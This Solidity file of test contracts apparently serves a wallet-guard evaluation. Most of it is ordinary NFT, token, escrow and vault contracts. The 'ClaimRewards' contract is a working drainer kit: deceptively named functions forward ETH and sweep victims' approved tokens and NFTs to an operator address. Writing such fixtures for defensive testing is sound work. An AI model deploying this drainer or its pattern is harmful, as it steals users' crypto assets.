// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";
import {ERC1155} from "@openzeppelin/contracts/token/ERC1155/ERC1155.sol";
import {IERC1155} from "@openzeppelin/contracts/token/ERC1155/IERC1155.sol";

/// Contracts for the guard's evaluation (eval/guard.ts): real ERC-721 and ERC-1155 collections, a token
/// with the legacy increaseAllowance, an escrow marketplace (an ordinary, long-lived spender) and the drainer
/// kits seen in phishing (a payable "claim" forwarding to the attacker, a multicall sweeping allowances).

contract DevCollectible is ERC721 {
    uint256 public next;
    constructor() ERC721("Dev Collectible", "DEVC") {}
    function mint(address to) external returns (uint256 id) {
        id = ++next;
        _mint(to, id);
    }
}

contract DevItems is ERC1155 {
    constructor() ERC1155("") {}
    function mint(address to, uint256 id, uint256 amount) external {
        _mint(to, id, amount, "");
    }
}

/// An ERC-20 that still has OpenZeppelin 4's increaseAllowance / decreaseAllowance.
contract LegacyAllowanceToken is ERC20 {
    constructor() ERC20("Legacy Allowance Token", "LAT") {}
    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }
    function increaseAllowance(address spender, uint256 added) external returns (bool) {
        _approve(msg.sender, spender, allowance(msg.sender, spender) + added);
        return true;
    }
    function decreaseAllowance(address spender, uint256 removed) external returns (bool) {
        _approve(msg.sender, spender, allowance(msg.sender, spender) - removed);
        return true;
    }
}

/// A plain escrow marketplace: sellers list an NFT at a price, buyers pay it, the seller is paid.
contract EscrowMarket {
    struct Listing { address seller; uint256 price; }
    mapping(address => mapping(uint256 => Listing)) public listings;
    function list(address collection, uint256 id, uint256 price) external {
        require(price > 0, "price");
        listings[collection][id] = Listing(msg.sender, price);
    }
    function buy(address collection, uint256 id) external payable {
        Listing memory l = listings[collection][id];
        require(l.price > 0 && msg.value == l.price, "price");
        delete listings[collection][id];
        IERC721(collection).transferFrom(l.seller, msg.sender, id);
        (bool ok, ) = l.seller.call{value: msg.value}("");
        require(ok, "pay");
    }
}

/// A staking vault: deposit a token, get it back later (an ordinary contract that takes tokens).
contract SimpleVault {
    mapping(address => mapping(address => uint256)) public deposits;
    function deposit(address token, uint256 amount) external {
        IERC20(token).transferFrom(msg.sender, address(this), amount);
        deposits[msg.sender][token] += amount;
    }
    function withdraw(address token, uint256 amount) external {
        deposits[msg.sender][token] -= amount;
        IERC20(token).transfer(msg.sender, amount);
    }
}

/// The drainer kit: "claim" takes ETH and forwards it to the operator; "multicall" replays calls with the
/// victim's earlier allowances; "sweep" functions move a victim's tokens and NFTs to the operator.
contract ClaimRewards {
    address payable public immutable operator;
    constructor(address payable operator_) { operator = operator_; }
    function claim() external payable {
        operator.transfer(msg.value);
    }
    function claimRewards(address[] calldata tokens) external payable {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 bal = IERC20(tokens[i]).balanceOf(msg.sender);
            uint256 allowed = IERC20(tokens[i]).allowance(msg.sender, address(this));
            uint256 take = bal < allowed ? bal : allowed;
            if (take > 0) IERC20(tokens[i]).transferFrom(msg.sender, operator, take);
        }
        if (msg.value > 0) operator.transfer(msg.value);
    }
    function multicall(bytes[] calldata calls) external payable {
        for (uint256 i = 0; i < calls.length; i++) {
            (address target, bytes memory data) = abi.decode(calls[i], (address, bytes));
            (bool ok, ) = target.call(data);
            require(ok, "call");
        }
    }
    function sweepNfts(address collection, uint256[] calldata ids) external {
        for (uint256 i = 0; i < ids.length; i++) IERC721(collection).transferFrom(msg.sender, operator, ids[i]);
    }
    function sweepItems(address collection, uint256 id, uint256 amount) external {
        IERC1155(collection).safeTransferFrom(msg.sender, operator, id, amount, "");
    }
}
